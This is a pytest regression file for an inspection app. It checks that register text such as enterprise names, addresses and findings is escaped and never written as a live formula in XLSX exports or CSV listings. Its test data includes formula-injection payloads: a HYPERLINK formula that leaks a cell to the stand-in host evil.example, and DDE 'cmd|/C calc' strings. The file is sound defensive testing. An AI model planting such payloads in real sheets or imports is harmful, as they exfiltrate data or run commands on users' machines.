"""Text from a register never becomes a live formula in a sheet or CSV the product writes (issue 11).

A register name ``=HYPERLINK("http://…?leak="&B2,"详情")`` used to come out of ``inspector-app
export`` as a formula (on the visit sheet and on the findings sheet), and ``enterprises list
--format csv`` printed ``= + - @`` values raw; Excel or WPS would run them when the office opens
the file.
"""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook

from inspector_app.register import is_formula_like, sheet_value
from inspector_app.store import tables
from inspector_app.store.workspace import Workspace
from tests.support.registers import code, good_row, write_csv

LEAK = '=HYPERLINK("http://evil.example/?leak="&B2,"详情")'
DAY = datetime(2020, 2, 20, 2, 0, tzinfo=UTC)


def cli(workspace: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "inspector_app.cli", "--workspace", str(workspace), *args],
        capture_output=True, check=False, text=True, encoding="utf-8", timeout=120,
    )


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (LEAK, "'" + LEAK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("-5", "-5"),  # a signed number is a number, not a formula
        ("+8613912345678", "+8613912345678"),
        ("深圳市宝龙精密五金制品有限公司", "深圳市宝龙精密五金制品有限公司"),
        ("a=b", "a=b"),
        (120, 120),
        (None, None),
    ],
)
def test_formula_like_text_is_written_as_text_and_everything_else_unchanged(value, written):
    assert sheet_value(value) == written
    assert is_formula_like(value) == (written != value) if isinstance(value, str) else True


def _workspace_with_a_hostile_name(root: Path) -> None:
    ws = Workspace.open(root)
    try:
        with ws.session() as s:
            s.add(tables.Inspector(badge_number="44030012345", name="张伟"))
            ent = tables.Enterprise(credit_code=code(1), name=LEAK, address="@SUM(1+1)", updated_at=DAY)
            s.add(ent)
            s.flush()
            s.add(tables.Visit(
                id="v0", enterprise_id=ent.id, form_code="fire-safety", form_version="1", status="completed",
                started_at=DAY, completed_at=DAY + timedelta(hours=1), inspectors_json='["44030012345"]',
                place="=1+2",
            ))
            s.flush()
            s.add(tables.Finding(
                id="f0", visit_id="v0", enterprise_id=ent.id, item_key="exits", title="+cmd|' /C calc'!A0",
                description="-1+1", deadline=DAY.date() + timedelta(days=7), found_on=DAY.date(),
            ))
    finally:
        ws.close()


def test_the_office_export_writes_no_formula_on_either_sheet(tmp_path):
    root = tmp_path / "ws"
    _workspace_with_a_hostile_name(root)
    out = tmp_path / "out.xlsx"
    result = cli(root, "export", "-o", str(out))
    assert result.returncode == 0, result.stderr
    book = load_workbook(out)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    visits, findings = book["检查记录"], book["隐患"]
    assert visits["C2"].value == "'" + LEAK and visits["K2"].value == "'=1+2"
    assert findings["C2"].value == "'" + LEAK
    assert findings["F2"].value == "'+cmd|' /C calc'!A0" and findings["H2"].value == "'-1+1"


def test_enterprises_list_as_csv_writes_formula_like_values_as_text(tmp_path):
    root = tmp_path / "ws"
    rows = [[LEAK, *good_row(1)[1:]], ["@SUM(1+1)*cmd|' /C calc'!A0", *good_row(2)[1:]]]
    imported = cli(root, "enterprises", "import", str(write_csv(tmp_path / "r.csv", rows)))
    assert imported.returncode == 0, imported.stderr + imported.stdout
    listed = cli(root, "enterprises", "list", "--format", "csv")
    assert listed.returncode == 0, listed.stderr
    names = {r["credit_code"]: r["name"] for r in csv.DictReader(io.StringIO(listed.stdout.lstrip("\ufeff")))}
    assert names == {code(1): "'" + LEAK, code(2): "'@SUM(1+1)*cmd|' /C calc'!A0"}
    as_json = cli(root, "enterprises", "list", "--format", "json")
    assert LEAK in as_json.stdout.replace('\\"', '"')  # JSON is data, not a sheet: unchanged
